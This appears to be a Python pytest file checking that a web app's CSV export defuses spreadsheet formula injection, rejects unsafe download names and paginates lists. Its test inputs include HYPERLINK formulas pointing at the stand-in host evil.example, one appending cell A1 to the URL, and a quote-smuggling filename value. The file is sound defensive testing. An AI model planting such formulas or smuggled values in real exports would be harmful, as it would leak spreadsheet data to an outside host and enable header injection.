"""A list's CSV export never hands a spreadsheet a formula: what members send is hostile,
and an analyst opens the export in a spreadsheet (OWASP's CSV injection)."""

from __future__ import annotations

import csv
import io

import pytest

from cosec.web.csvexport import csv_response, csv_text, page_of, safe_cell
from tests.api.support import Api
from tests.mechanisms.incidents.support import report


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_a_text_cell_that_would_run_as_a_formula_is_written_as_text(start: str) -> None:
    text = f'{start}HYPERLINK("http://evil.example","click")'
    assert safe_cell(text) == "'" + text
    (row,) = list(csv.reader(io.StringIO(csv_text(["a"], [[text]]))))[1:]
    assert row == ["'" + text]


def test_numbers_and_ordinary_text_are_written_as_they_are() -> None:
    for value in (-3, 2.5, "-12.5", "+7", "1e-3", "Exercise -2", "", None, True):
        assert safe_cell(value) == value
    rows = [{"b": "=x", "a": -1, "extra": "left out"}, {"a": 2}]
    assert csv_text(["a", "b"], rows) == "a,b\n-1,'=x\n2,\n"


def test_a_download_name_is_never_taken_from_a_request_unchecked() -> None:
    assert (
        'filename="f-2026.csv"'
        in csv_response(["a"], [], "f-2026.csv").headers["content-disposition"]
    )
    with pytest.raises(ValueError, match="download name"):
        csv_response(["a"], [], 'x"; evil=".csv')


def test_pages_cut_a_list_and_an_empty_list_has_one_page() -> None:
    assert page_of(list(range(120)), 3, 50) == (list(range(100, 120)), 3)
    assert page_of([], 1, 50) == ([], 1)


def test_an_incident_titled_as_a_formula_exports_as_text(api: Api) -> None:
    title = '=HYPERLINK("http://evil.example/?"&A1,"open")'
    api.ok(
        api.post(
            "/v1/incidents",
            "USA",
            {"payload": report(title=title, min_distance_m=300, other_member="CHN", acts=[])},
        ),
        201,
    )
    exported = api.client.get("/incidents.csv", headers=api.auth("JPN"))
    assert exported.status_code == 200
    rows = list(csv.DictReader(io.StringIO(exported.text)))
    assert [r["title"] for r in rows] == ["'" + title]
